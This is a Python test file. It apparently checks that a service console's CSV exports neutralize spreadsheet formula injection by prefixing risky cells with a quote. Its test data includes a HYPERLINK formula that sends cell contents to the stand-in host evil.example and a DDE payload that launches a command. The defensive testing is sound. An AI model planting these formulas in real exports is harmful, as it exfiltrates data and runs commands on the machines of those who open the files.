"""CSV exports cannot carry spreadsheet formulas (issue 11, finding 5): a technician's free-text
name ``=HYPERLINK(...)`` or ``@SUM(...)`` comes out as text, in every CSV the console writes."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
from sqlalchemy.engine import Engine

from domain.csv_export import safe_cell
from models.db import session_scope
from models.tables import Client
from tests.browser.support import Desk, add_case, make_desk

ROOT = Path(__file__).resolve().parents[1]
NOVEMBER = "from=2026-11-01&to=2026-11-30"
HYPERLINK = '=HYPERLINK("https://evil.example/?d="&A1;"clic")'


@pytest.fixture
def desk(engine: Engine, tmp_path: Path) -> Desk:
    return make_desk(engine, tmp_path)


@pytest.mark.parametrize("cell", [HYPERLINK, "@SUM(1+1)*cmd|' /C calc'!A0", "+1+cmd",
                                  "-2+3", "\t=1+1", "\r=1+1", "=1"])
def test_a_cell_that_starts_a_formula_is_written_as_text(cell: str) -> None:
    assert safe_cell(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["tech", "65.0", "-3.5", "+33450000011", "", "a=b", "VIG-1"])
def test_plain_text_and_the_consoles_own_numbers_are_left_alone(cell: str) -> None:
    assert safe_cell(cell) == cell


def test_the_per_case_sla_export_neutralizes_a_free_text_technician(desk: Desk) -> None:
    a = desk.clients["client-a"]
    with session_scope(desk.engine) as s:
        client = s.get(Client, a)
        assert client is not None
        client.name = "@SUM(A1:A9)"
        s.add(client)
    add_case(desk.engine, a, criticality="minor", ledger=[
        (10, "classify", {"criticality": "minor", "actor": HYPERLINK}),
    ])
    http, _ = desk.signed_in("manager")
    for query in ("detail=cases", "by=technician", "by=client"):
        r = http.get(f"/sla/export.csv?{NOVEMBER}&{query}")
        assert r.status_code == 200, query
        rows = list(csv.reader(io.StringIO(r.content.decode("utf-8-sig")), delimiter=";"))
        cells = [c for row in rows for c in row]
        assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")], (query, cells)
        if query == "detail=cases":
            assert "'" + HYPERLINK in cells and "'@SUM(A1:A9)" in cells
        if query == "by=technician":
            assert "'" + HYPERLINK in cells


def test_no_module_writes_csv_without_the_export_helper() -> None:
    """A future export cannot forget the neutralization: csv writers live in one module."""
    writers = re.compile(r"csv\.(writer|DictWriter)\(")
    offenders = [
        str(path.relative_to(ROOT))
        for path in ROOT.rglob("*.py")
        if path.relative_to(ROOT).parts[0] not in (".venv", "tests", "var")
        and writers.search(path.read_text())
        and path != ROOT / "domain" / "csv_export.py"
    ]
    assert offenders == []
